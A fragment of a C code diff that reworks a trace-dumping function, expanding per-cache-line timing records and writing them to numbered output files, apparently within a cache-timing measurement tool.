+	trace_sample_counts(records, sample_count, cl_cnt, sp_cnt, counts);
+	if (dump_segment != NULL || trace_get_format() != TRACE_FORMAT_RECORDS) {
+		// Expand the run for the column writers
+		uint64_t *sample_tsc[cl_cnt], *latency[cl_cnt];
+		int err = 0;
 		for (int j = 0; j < cl_cnt; ++j) {
-			if (sample_tsc[j][i] > 0) {
-				has_hits = true;
+			sample_tsc[j] = malloc(sizeof(uint64_t) * (counts[j] + 1));
+			latency[j] = malloc(sizeof(uint64_t) * (counts[j] + 1));
+			if (sample_tsc[j] == NULL || latency[j] == NULL) {
+				err = 1;
+				continue;
 			}
-			fprintf(fp, "%lu:%lu\t", sample_tsc[j][i], reload_time[j][i]);
-			/* sample_tsc[j][i] = reload_time[j][i] = 0; */
+			trace_expand_records(
+			    records[j], counts[j], tsc_base[j], sample_tsc[j], latency[j]);
 		}
-		fprintf(fp, "\n");
-		if (!has_hits) {
-			break;
+		if (err) {
+			log_error("Cannot expand the records of run %d", dump_trace_idx);
+		} else {
+			dump_profiling_traces(dump_prefix,
+			                      victim_runs,
+			                      sample_tsc,
+			                      latency,
+			                      counts,
+			                      cl_cnt,
+			                      sp_cnt,
+			                      reset);
 		}
+		for (int j = 0; j < cl_cnt; ++j) {
+			free(sample_tsc[j]);
+			free(latency[j]);
+		}
+		return;
 	}
-	fclose(fp);
+
+	if (reset) {
+		dump_trace_idx = 0;
+	}
+	snprintf(output_dir,
+	         sizeof(output_dir),
+	         "output/%s_r%05d",
+	         dump_prefix,
+	         victim_runs);
+	if (dump_trace_idx == 0) {
+		create_directory(output_dir);
+	}
+
+	sprintf(output_file, "%s/r%d.out", output_dir, dump_trace_idx++);
+	log_info("Dump trace to %s", output_file);
+	trace_write_records(output_file, records, tsc_base, counts, cl_cnt);
 }